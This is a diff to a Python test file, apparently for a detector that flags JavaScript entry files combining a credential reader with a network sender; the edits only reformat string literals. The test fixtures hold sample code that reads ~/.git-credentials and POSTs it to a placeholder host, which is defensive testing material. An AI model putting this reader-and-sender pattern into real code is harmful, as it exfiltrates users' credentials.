@@ -38,7 +38,10 @@ def test_an_es_module_entry_joining_a_reader_and_a_sender_is_sent(tmp_path: Path
 
 
 def test_a_commonjs_entry_joining_a_reader_and_a_sender_is_sent(tmp_path: Path) -> None:
-    reader = "const fs = require('fs');\nexports.load = () => fs.readFileSync(process.env.HOME + '/.git-credentials', 'utf8');\n"
+    reader = (
+        "const fs = require('fs');\n"
+        "exports.load = () => fs.readFileSync(process.env.HOME + '/.git-credentials', 'utf8');\n"
+    )
     sender = "exports.report = (x) => fetch('https://hub.quillmoor.invalid/r', { method: 'POST', body: x });\n"
     entry = "const { load } = require('./reader');\nconst { report } = require('./sender');\nreport(load());\n"
     files = {"bin/run.js": entry, "bin/reader.js": reader, "bin/sender.js": sender}
@@ -47,9 +50,7 @@ def test_a_commonjs_entry_joining_a_reader_and_a_sender_is_sent(tmp_path: Path) 
 
 def test_an_entry_joining_a_plain_reader_and_a_sender_is_quiet(tmp_path: Path) -> None:
     entry = (
-        "import { gather } from './lib/gather.mjs';\n"
-        "import { ship } from './lib/ship.mjs';\n"
-        "await ship(gather());\n"
+        "import { gather } from './lib/gather.mjs';\nimport { ship } from './lib/ship.mjs';\nawait ship(gather());\n"
     )
     reader = READER_ESM.replace("homedir() + '/.npmrc'", "'./summary.json'")
     files = {"tool/main.mjs": entry, "tool/lib/gather.mjs": reader, "tool/lib/ship.mjs": SENDER_ESM}
